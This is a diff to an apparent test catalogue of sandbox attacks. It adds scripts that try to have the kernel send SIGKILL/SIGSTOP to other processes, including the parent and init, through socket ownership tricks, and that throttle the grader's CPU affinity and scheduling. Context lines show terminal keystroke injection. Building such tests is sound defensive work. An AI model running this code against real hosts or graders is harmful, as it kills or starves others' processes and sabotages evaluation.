@@ -232,4 +232,22 @@ for fd in range(3):
         for c in "exit\\n": fcntl.ioctl(fd, termios.TIOCSTI, c)
     except OSError: pass
 '''),
+    Attack("signals-by-descriptors", "host", "has the kernel send SIGKILL and SIGSTOP to others when a descriptor of its own is ready", "the batch ends, or a neighbour's score changes", '''
+import fcntl, signal, socket, struct
+for pid in (*WORLD["pids"], os.getppid(), -1, 1):
+    for number in (signal.SIGSTOP, signal.SIGKILL):
+        for own in (lambda fd: fcntl.fcntl(fd, fcntl.F_SETOWN, pid), lambda fd: fcntl.fcntl(fd, 15, struct.pack("ii", 1, pid)), lambda fd: fcntl.ioctl(fd, 0x8901, struct.pack("i", pid)), lambda fd: fcntl.ioctl(fd, 0x8902, struct.pack("i", pid))):
+            a, b = socket.socketpair()
+            try:
+                fcntl.fcntl(a, 10, number); own(a.fileno()); fcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK); b.send(b"x")
+            except OSError as error: print(type(error).__name__)
+'''),
+    Attack("slows-others-down", "host", "binds the grader to one processor and to the lowest priority", "the grader may use fewer processors than before", '''
+import ctypes, struct
+libc = ctypes.CDLL(None)
+for pid in WORLD["pids"]:
+    for act in (lambda: os.sched_setaffinity(pid, {0}), lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)), lambda: libc.syscall(314, pid, struct.pack("IIQiIQQQ", 48, 5, 0, 19, 0, 0, 0, 0), 0)):
+        try: act()
+        except OSError as error: print(type(error).__name__)
+'''),
 )  # fmt: skip
